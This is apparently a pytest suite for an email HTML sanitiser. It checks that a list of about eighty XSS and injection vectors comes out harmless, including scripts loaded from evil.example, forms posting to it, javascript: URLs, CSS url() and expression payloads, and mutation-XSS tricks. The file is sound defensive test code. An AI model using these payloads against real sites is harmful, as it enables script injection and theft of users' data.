"""No vector of ours, nor a mutation of one, runs, submits, frames or loads anything."""

import random
import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from answerable.channels.email.plaintext import html_to_text
from answerable.channels.email.sanitise import PLACEHOLDER, SANDBOX, content_security_policy, document, sanitise
from answerable.channels.email.styles import safe_style

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x></object>",
    "<embed src=x>",
    "<form action=//evil.example><input name=p><button>go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select onchange=alert(1)><option>1</select>",
    "<textarea onfocus=alert(1)></textarea>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style='background:url(//evil.example/x.png)'>x</div>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='color:red;b\\61ckground:url(//evil.example)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='-moz-binding:url(//evil.example)'>x</p>",
    "<table background=//evil.example/x.png><tr><td background=//evil.example>x</table>",
    "<img srcset='//evil.example/x.png 2x'>",
    "<img src=//evil.example/x.png>",
    "<img src=https://evil.example/x.png>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img lowsrc=//evil.example>",
    "<video src=//evil.example poster=//evil.example/x.png></video>",
    "<audio src=//evil.example></audio>",
    "<source src=//evil.example>",
    "<a href=https://example.com onclick=alert(1) ping=//evil.example>x</a>",
    "<a target=_self href=https://example.com>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><script>alert(1)</script></title>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<div id=location name=cookie>clobber</div>",
    "<a id=defaultView>x</a>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1)>",
    "<frameset onload=alert(1)></frameset>",
    "<div class='gmail_quote'><script>alert(1)</script></div>",
    "<img src=cid:evil onerror=alert(1)>",
    "<font color='red;background:url(x)'>x</font>",
    "<bgsound src=//evil.example>",
    "<layer src=//evil.example></layer>",
    "<applet code=x></applet>",
    "<portal src=//evil.example></portal>",
    "<blockquote cite='//evil.example'>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<del cite=javascript:alert(1)>x</del>",
]
FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "base",
    "meta",
    "link",
    "svg",
    "math",
    "video",
    "audio",
    "source",
    "template",
    "portal",
    "noscript",
}
LOADING = {
    "srcset",
    "background",
    "poster",
    "action",
    "formaction",
    "data",
    "cite",
    "ping",
    "lowsrc",
    "xlink:href",
    "srcdoc",
    "longdesc",
}
OWN = "/conversations/1/attachments/"


class Inspector(HTMLParser):
    """Another parser than the cleaner's looks at what came out of it."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            self.judge(tag, name, value or "")

    def judge(self, tag: str, name: str, value: str) -> None:
        plain = re.sub(r"[\s\x00-\x1f]", "", value).lower()
        if name.startswith("on") or name in LOADING:
            self.wrong.append(f"{tag} {name}")
        if name == "href" and not plain.startswith(("https://", "http://", "mailto:", "tel:")):
            self.wrong.append(f"href {value}")
        if name == "src" and not (
            value == PLACEHOLDER or value.startswith(OWN) or re.match("data:image/(png|jpeg|gif|webp);base64,", plain)
        ):
            self.wrong.append(f"src {value}")
        if name == "style" and re.search(r"url|expression|import|position|behavior|binding|\\|fixed|@", plain):
            self.wrong.append(f"style {value}")


def wrong_in(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(sanitise(html, cid_url=lambda _: OWN + "7").body)
    inspector.close()
    return inspector.wrong


@pytest.mark.parametrize("vector", VECTORS)
def test_vectors_are_harmless(vector: str) -> None:
    assert wrong_in(vector) == []
    assert wrong_in(f"<div><p>before {vector} after</p></div>") == []


def test_mutations_of_the_vectors_are_harmless() -> None:
    chance = random.Random(7)
    pieces = [
        "<",
        ">",
        "'",
        '"',
        "/",
        "=",
        " ",
        "\x00",
        "\t",
        "&#x3c;",
        "<!--",
        "-->",
        "</",
        "<p ",
        "style=",
        "&",
        "`",
        "<svg>",
        "<b>",
        "javascript:",
    ]
    for _ in range(5_000):
        html = "".join(chance.choice(VECTORS) for _ in range(chance.randint(1, 3)))
        for _ in range(chance.randint(1, 5)):
            place = chance.randrange(len(html) + 1)
            html = (
                html[:place]
                + chance.choice([*pieces, html[place : place + 8]])
                + html[place + chance.choice((0, 0, 1, 5)) :]
            )
        assert wrong_in(html) == [], html


@settings(deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_harmless(text: str) -> None:
    assert wrong_in(text) == []


@settings(deadline=None)
@given(st.text(alphabet="abc:;()url/\\'\"-#.,% \n!@{}<>&*", max_size=100))
def test_styles_load_and_hide_nothing(style: str) -> None:
    clean = safe_style(f"color:{style};width:{style}")
    assert "url(" not in clean.replace(" ", "")
    assert not set("\\<>{}@") & set(clean)


def test_ordinary_styles_stay() -> None:
    style = (
        "color:#333; font:bold 12px/1.5 Arial, 'Noto Sans'; margin:-40px; padding:4px 0 !important; color:rgb(1,2,3)"
    )
    assert safe_style(style) == "color:#333;font:bold 12px/1.5 Arial, 'Noto Sans';padding:4px 0;color:rgb(1,2,3)"


def test_remote_pictures_wait_until_they_are_asked_for() -> None:
    html = '<img src="https://example.com/a.png" alt="A"><img src="http://example.com/b.gif" width=1>'
    held = sanitise(html)
    assert held.remote_images == 2
    assert "example.com" not in held.body
    assert 'alt="A"' in held.body
    shown = sanitise(html, show_remote_images=True)
    assert shown.remote_images == 2
    assert 'src="https://example.com/a.png"' in shown.body


def test_pictures_in_the_mail_come_from_us() -> None:
    known = {"logo@example": OWN + "3"}
    html = '<img src="cid:logo@example"><img src="CID:gone">'
    assert sanitise(html, cid_url=known.get).body == f'<img src="{OWN}3"><img>'


def test_links_open_elsewhere_and_tell_nothing() -> None:
    body = sanitise('<a href="https://example.com/?a=1&b=2" target="_top" rel="opener">x</a>').body
    assert body == '<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>'


def test_quotes_of_the_known_mailers_are_folded() -> None:
    gmail = '<div>Yes</div><div class="gmail_quote gmail_quote_container"><div class="gmail_attr">On Monday</div></div>'
    outlook = '<div><p>Yes</p><div><div style="border-top:solid #E1E1E1 1.0pt"><p>From</p></div></div><p>q</p></div>'
    yahoo = '<div>Yes</div><div id="ydp1yahoo_quoted_1" class="yahoo_quoted">q</div>'
    apple = '<div>Yes</div><blockquote type="cite"><div>q</div></blockquote>'
    for html in (gmail, outlook, yahoo, apple):
        body = sanitise(html, quoted_label="Earlier & older").body
        assert body.count('<details class="quoted"><summary>Earlier &amp; older</summary>') == 1
        assert body.index("Yes") < body.index("<details")


@pytest.mark.parametrize(
    "tag", ["div", "span", "blockquote", "x", "b", "table", "a", "p", "ul", "font", "svg", "details"]
)
def test_deep_and_huge_html_is_limited(tag: str) -> None:
    began = time.perf_counter()
    safe = sanitise(f"<{tag}>" * 100_000 + "words")
    assert time.perf_counter() - began < 5
    assert safe.cut
    assert len(safe.body) < 3_000_000


FONTS = "".join(f"<font size={size}>" for size in range(8_000))
ROOTS = "".join(f"<html a{number}=1>" for number in range(50_000))


DEAR = {
    "closed by others": "<i>" * 8_000 + "</b>" * 200_000,
    "each another font": FONTS + "</p>" * 7_000,
    "attributes of all roots": ROOTS,
    "references": "&" * 1_000_000,
}


@pytest.mark.parametrize("html", DEAR.values(), ids=DEAR)
def test_little_html_costs_little(html: str) -> None:
    """Each of these took three to thirty seconds, of intake and of each who looked."""
    began = time.process_time()
    assert sanitise(html).cut
    html_to_text(html)
    assert time.process_time() - began < 3


def test_the_frame_is_a_document_that_can_do_nothing() -> None:
    page = document(sanitise("<p>გამარჯობა"), language="ka")
    assert page.startswith('<!doctype html><html lang="ka"><head><meta charset="utf-8">')
    assert "<p>გამარჯობა</p></body></html>" in page
    policy = content_security_policy()
    assert "default-src 'none'" in policy
    assert "script-src" not in policy
    assert "allow-scripts" not in SANDBOX
    assert "img-src 'self' data:;" in policy
    assert "https:" in content_security_policy(show_remote_images=True)
